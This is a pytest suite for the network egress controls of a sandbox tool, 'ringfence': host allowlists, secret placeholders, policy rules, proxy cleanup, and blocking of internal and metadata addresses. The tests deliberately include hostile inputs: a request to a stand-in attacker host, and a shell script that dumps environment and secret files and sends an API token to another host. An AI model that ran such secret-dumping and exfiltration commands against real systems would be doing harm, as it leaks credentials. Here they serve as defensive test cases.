"""``ringfence run`` with a network: the door opens for what is named, and is gone with the run."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.commands import Ringfence
from support.internet import API, Internet
from support.rootless import UID, normal_user

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the made-up internet needs root")
ALLOW = ("run", "--allow", "api.example.test:443", "--")
CURL = ("curl", "-sS", "--max-time", "60")


@pytest.fixture(scope="module")
def internet() -> Iterator[Internet]:
    """The made-up internet."""
    made = Internet()
    try:
        yield made
    finally:
        made.close()


@pytest.fixture
def there(ringfence: Ringfence, internet: Internet) -> Iterator[Ringfence]:
    """The command line of a machine in the made-up internet that trusts its authority."""
    ringfence.env["SSL_CERT_FILE"] = str(internet.folder / "ca.pem")
    with internet.entered():
        yield ringfence


def proxies(folder: str) -> list[int]:
    """Egress processes of a state folder that are alive."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            words = path.read_bytes().split(b"\0")
            if b"ringfence.egress" in words and any(folder.encode() in word for word in words):
                state = (path.parent / "stat").read_text().rpartition(")")[2].split()[0]
                if state not in ("Z", "X"):
                    found.append(int(path.parent.name))
    return found


def gone(folder: str) -> bool:
    """No egress process of this folder is left, within a good while."""
    deadline = time.monotonic() + 60
    while proxies(folder) and time.monotonic() < deadline:
        time.sleep(0.05)
    return not proxies(folder)


def test_an_allowed_host_and_no_other(there: Ringfence, internet: Internet) -> None:
    done = there(*ALLOW, *CURL, "https://api.example.test/from/run")
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert (answer["path"], answer["sni"]) == ("/from/run", "api.example.test")
    mark = internet.mark()
    done = there(*ALLOW, *CURL, "https://evil.attacker.test/")
    assert done.returncode == 56  # curl's own: the proxy refused the tunnel
    assert b"network: evil.attacker.test:443 refused: no rule allows" in done.stderr
    done = there(*ALLOW, *CURL, "--noproxy", "*", "https://evil.attacker.test/")
    assert done.returncode == 6  # no such name
    assert internet.since(mark) == []
    assert gone(there.env["RINGFENCE_HOME"])


PLACEHOLDER = (
    "apiVersion: ringfence/v1\nkind: Policy\nmetadata: {name: tools}\n"
    "network:\n  mode: egress\n  allow:\n"
    "    - host: api.example.test\n"
    '      inject: {placeholder: "{{secret:token}}", env: API_TOKEN}\n'
    "    - {host: web.example.test, ports: [80]}\n"
)


def test_a_program_uses_a_key_that_it_never_has(there: Ringfence, internet: Internet, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(PLACEHOLDER)
    assert there("egress", "secret", "set", "token", input=b"k3y-of-mine").returncode == 0
    mark = internet.mark()
    script = (
        'curl -sS --max-time 60 -H "Authorization: Bearer $API_TOKEN" https://api.example.test/v1 >/dev/null '
        "&& env && cat /proc/self/environ /proc/1/environ /run/secrets/* /etc/hosts 2>/dev/null; "
        'curl -sS --max-time 60 "http://web.example.test/?q=$API_TOKEN"'
    )
    done = there("run", "-q", "--policy", str(policy), "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    (asked,) = [each for each in internet.since(mark) if each["what"] == "request"]
    assert dict(asked["headers"])["authorization"] == "Bearer k3y-of-mine"
    assert b"API_TOKEN=rfsecret0" in done.stdout  # the positive control: it could be read there
    assert b"k3y-of-mine" not in done.stdout + done.stderr
    assert b'"code": "placeholder"' in done.stdout  # elsewhere it is refused
    done = there("run", "--policy", str(policy), "--env", "API_TOKEN=k3y-of-mine", "--", "true")
    assert done.returncode == 125 and b"API_TOKEN is the policy's" in done.stderr


def test_without_a_rule_there_is_nothing(there: Ringfence, internet: Internet) -> None:
    mark = internet.mark()
    done = there("run", "--net", "egress", "-q", "--", *CURL, "https://api.example.test/")
    assert (done.returncode, b"refused" in done.stderr.replace(b"CONNECT", b"")) == (56, False)
    done = there("run", "--", *CURL, "https://api.example.test/")  # no network at all
    assert done.returncode == 6
    assert internet.since(mark) == []


def test_methods_and_paths_of_a_policy_file(there: Ringfence, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "apiVersion: ringfence/v1\nkind: Policy\nmetadata: {name: tools}\n"
        "network:\n  mode: egress\n  allow:\n"
        '    - {host: api.example.test, ports: [443], methods: [POST], paths: ["/v1/*"]}\n'
    )
    url = "https://api.example.test/v1/chat"
    done = there("run", "--policy", str(policy), "--", *CURL, "-d", "hello", url)
    assert json.loads(done.stdout)["body"] == "hello", done.stderr
    for arguments in ((url,), ("-d", "hello", "https://api.example.test/v2/chat")):
        done = there("run", "--policy", str(policy), "-q", "--", *CURL, *arguments)
        error = json.loads(done.stdout)["error"]
        assert error["code"] == "egress_denied"
        assert error["hint"]


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("--runtime", "wasm", "--net", "egress"), b"network"),
        (("--runtime", "fake", "--allow", "api.example.test"), b"network"),
        (("--allow", "api.example.test:0"), b"--allow"),
        (("--allow", "*"), b"host"),
        (("--net", "none", "--allow", "api.example.test"), b"exclude each other"),
        (("--preset", "untrusted", "--net", "open"), b"open is not for preset untrusted"),
        (("--runtime", "gvisor", "--net", "open"), b"network"),
    ],
)
def test_what_can_not_be_is_said(there: Ringfence, arguments: tuple[str, ...], words: bytes) -> None:
    done = there("run", *arguments, "--", "true")
    assert done.returncode == 125
    assert words in done.stderr, done.stderr
    assert b"Traceback" not in done.stderr


def test_a_kept_sandbox_has_a_door_while_somebody_runs_something(there: Ringfence) -> None:
    done = there("run", "--keep", "--json", "--allow", "api.example.test", "--", "true")
    assert done.returncode == 0, done.stderr
    name = json.loads(done.stdout)["id"]
    try:
        assert gone(there.env["RINGFENCE_HOME"])
        done = there("sandbox", "exec", name, "--", *CURL, "https://api.example.test/from/exec")
        assert json.loads(done.stdout)["path"] == "/from/exec", done.stderr
        assert gone(there.env["RINGFENCE_HOME"])
    finally:
        assert there("stop", name).returncode == 0


def test_a_killed_run_takes_its_door_along(there: Ringfence) -> None:
    running = there.start(*ALLOW, "sh", "-c", "echo up; sleep 600")
    assert running.stdout is not None
    assert running.stdout.readline() == b"up\n"
    assert len(proxies(there.env["RINGFENCE_HOME"])) == 1
    running.send_signal(signal.SIGKILL)
    running.communicate(timeout=60)
    assert gone(there.env["RINGFENCE_HOME"])
    assert there("run", "--", "true").returncode == 0  # sweeps what a killed one left


def test_the_door_opens_again_after_its_process_died(there: Ringfence) -> None:
    script = (
        "echo up; read go; for n in $(seq 600); do "
        "curl -sS --max-time 10 https://api.example.test/again 2>/dev/null && exit 0; sleep 0.1; done; exit 1"
    )
    running = there.start(*ALLOW, "sh", "-c", script)
    assert running.stdout is not None and running.stdin is not None
    assert running.stdout.readline() == b"up\n"
    (proxy,) = proxies(there.env["RINGFENCE_HOME"])
    os.kill(proxy, signal.SIGKILL)
    out, errors = running.communicate(b"go\n", timeout=120)
    assert running.returncode == 0, errors
    assert json.loads(out)["path"] == "/again"
    assert gone(there.env["RINGFENCE_HOME"])


slirp = pytest.mark.skipif(
    subprocess.run(["sh", "-c", "command -v slirp4netns"], capture_output=True).returncode != 0,
    reason="network mode open needs slirp4netns",
)


@slirp
def test_an_open_network_for_trusted_code(there: Ringfence, internet: Internet) -> None:
    def fetch(url: str, *options: str) -> subprocess.CompletedProcess[bytes]:
        return there("run", "--preset", "trusted", "--", *CURL, *options, url)

    done = fetch("http://web.example.test/from/open")
    assert json.loads(done.stdout)["path"] == "/from/open", done.stderr
    mark = internet.mark()
    for address in ("10.20.30.40", "169.254.169.254", "10.0.2.2"):
        done = fetch(f"http://{address}/", "--connect-timeout", "1")
        assert done.returncode == 28, (address, done.stderr)  # timed out: dropped
    assert [line for line in internet.since(mark) if line["what"] == "request"] == []


@pytest.mark.parametrize("ids", [False, True], ids=["one-id", "subordinate-ids"])
def test_as_a_normal_user(ids: bool, internet: Internet) -> None:
    """Rootless: the same door, and what ignores proxies is caught too."""
    with internet.entered(), normal_user(ids=ids) as user:
        for extra in ((), ("--noproxy", "*")):
            done = user.run(
                ["python", "-m", "ringfence", *ALLOW, *CURL, *extra, "https://api.example.test/from/user"],
                env={"SSL_CERT_FILE": str(internet.folder / "ca.pem")},
            )
            assert done.returncode == 0, done.stderr
            assert json.loads(done.stdout)["path"] == "/from/user"
        mark = internet.mark()
        done = user.run(["python", "-m", "ringfence", *ALLOW, *CURL, "--noproxy", "*", f"http://{API}/"])
        assert done.returncode != 0
        assert internet.since(mark) == []


def networks(uid: int) -> list[int]:
    """Processes of a user that are the network of a sandbox, and live."""
    found = []
    for path in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            state = (path / "stat").read_text().rpartition(")")[2].split()[0]
            if (path / "comm").read_text() == "slirp4netns\n" and path.stat().st_uid in (uid, 0):
                words = (path / "status").read_text().partition("\nUid:")[2].split()
                if int(words[0]) == uid and state not in ("Z", "X"):
                    found.append(int(path.name))
    return found


@slirp
@pytest.mark.parametrize("ids", [False, True], ids=["one-id", "subordinate-ids"])
def test_an_open_network_as_a_normal_user(ids: bool, internet: Internet) -> None:
    """With the device as distributions have it the network is there; without, the error says so."""
    with internet.entered(), normal_user(ids=ids) as user:
        devices = {}
        for name, mode in (("usable", 0o666), ("closed", 0o600)):
            devices[name] = user.folder / name
            os.mknod(devices[name], 0o20000 | mode, os.makedev(10, 200))
            devices[name].chmod(mode)

        def fetch(device: str, url: str, *options: str) -> subprocess.CompletedProcess[str]:
            command = ["python", "-m", "ringfence", "run", "--preset", "trusted", "--runtime", "jail", "--"]
            argv = user.argv([*command, *CURL, *options, url])
            bind = f"mount --make-rprivate /\nmount --bind {devices[device]} /dev/net/tun"
            argv[-1] = argv[-1].replace("mount --make-rprivate /", bind, 1)
            return subprocess.run(argv, env=user.env, capture_output=True, text=True, timeout=110)

        done = fetch("closed", "http://web.example.test/")
        assert done.returncode == 125
        assert f"/dev/net/tun may not be used by user {UID}" in done.stderr
        assert "chmod 666 /dev/net/tun" in done.stderr
        assert "Traceback" not in done.stderr
        done = fetch("usable", "http://web.example.test/from/rootless")
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["path"] == "/from/rootless"
        mark = internet.mark()
        for address in ("10.20.30.40", "169.254.169.254", "10.0.2.2"):
            done = fetch("usable", f"http://{address}/", "--connect-timeout", "1")
            assert done.returncode == 28, (address, done.stderr)  # timed out: dropped
        assert [line for line in internet.since(mark) if line["what"] == "request"] == []
        deadline = time.monotonic() + 60
        while networks(UID) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert networks(UID) == []
